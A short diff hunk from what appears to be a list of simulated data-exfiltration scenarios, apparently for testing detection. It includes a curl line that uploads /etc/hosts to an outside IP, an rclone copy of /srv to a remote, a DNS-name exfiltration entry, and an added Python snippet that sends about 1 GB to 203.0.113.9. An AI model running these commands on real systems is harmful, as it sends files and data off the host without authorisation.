@@ -7,3 +7,14 @@ server 'curl -s -F f=@/etc/hosts https://10.9.8.7/'
 rclone copy /srv remote:x
 ## Data put into the names of DNS queries
 dns A 30 60
+## Much sent to the internet
+python3 -c '
+import socket, threading
+server = socket.create_server(("203.0.113.9", 443))
+def take():
+  peer, _ = server.accept()
+  while peer.recv(1 << 20): pass
+taking = threading.Thread(target=take); taking.start()
+client = socket.create_connection(("203.0.113.9", 443))
+for n in range(1010): client.sendall(bytes(1_000_000))
+client.close(); taking.join()'
